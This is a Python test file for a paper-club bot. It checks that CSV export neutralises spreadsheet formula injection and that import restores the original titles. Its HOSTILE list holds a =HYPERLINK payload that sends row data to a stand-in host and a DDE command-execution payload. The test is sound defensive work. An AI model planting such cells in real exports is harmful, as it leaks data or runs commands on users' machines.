"""A CSV export is opened in a spreadsheet, and a title starting "=", "+", "-" or "@" ran there
as a formula (=HYPERLINK sending the row to another site). Such a cell now starts with an
apostrophe, and our importer takes it off again, so a title that really starts with "-" or "="
comes back unchanged."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.export_formats import render
from bot.ingest import parse
from bot.ingest.csvfmt import FORMULA_STARTS, guard_cell, unguard_cell
from tests.cli.conftest import Runner
from tests.test_export_formats import PAPER, RECORD

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for the PDF")',
    "=cmd|' /C calc'!A0",
    "+1 more reason to read this",
    "-1 is a negative result: lessons from a failed replication",
    "@channel read this one",
    "'=already quoted by the list's author",
]


def test_the_reported_titles_export_inert_and_import_back(
    paperclub: Runner, tmp_path: Path
) -> None:
    listing = tmp_path / "hostile.json"
    papers = [{"title": title, "abstract": "An abstract."} for title in HOSTILE]
    listing.write_text(json.dumps([*papers, {"title": "A plain title", "abstract": "x"}]))
    paperclub("import", str(listing))
    exported = tmp_path / "export.csv"
    paperclub("export", "--format", "csv", "-o", str(exported))
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert [row["title"] for row in rows] == [*("'" + t for t in HOSTILE), "A plain title"]

    other = {"PAPERCLUB_DATABASE_URL": f"sqlite:///{tmp_path / 'other.db'}"}
    paperclub("import", str(exported), **other)
    again = json.loads(paperclub("export", **other).stdout)
    assert [paper["title"] for paper in again] == [*HOSTILE, "A plain title"]


def test_every_text_column_is_guarded_tabs_and_returns_too() -> None:
    paper = replace(PAPER, title="@SUM(A1)", abstract="\t=1+1", authors=("-Dash", "Bo Li"))
    text = render(records=[replace(RECORD, paper=paper)], fmt="csv")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["title"], row["abstract"], row["authors"]) == (
        "'@SUM(A1)",
        "'\t=1+1",
        "'-Dash; Bo Li",
    )
    assert row["id"] == "7" and row["up"] == "3"  # numbers stay numbers
    [draft], rejections = parse(path="export.csv", text=text)
    assert rejections == [] and (draft.title, draft.authors) == ("@SUM(A1)", ("-Dash", "Bo Li"))


@settings(max_examples=300, deadline=None, database=None)
@given(text=st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=8))
def test_guard_then_unguard_is_the_identity_and_guarded_is_inert(text: str) -> None:
    guarded = guard_cell(text=text)
    assert unguard_cell(text=guarded) == text
    assert guarded[:1] not in set(FORMULA_STARTS)
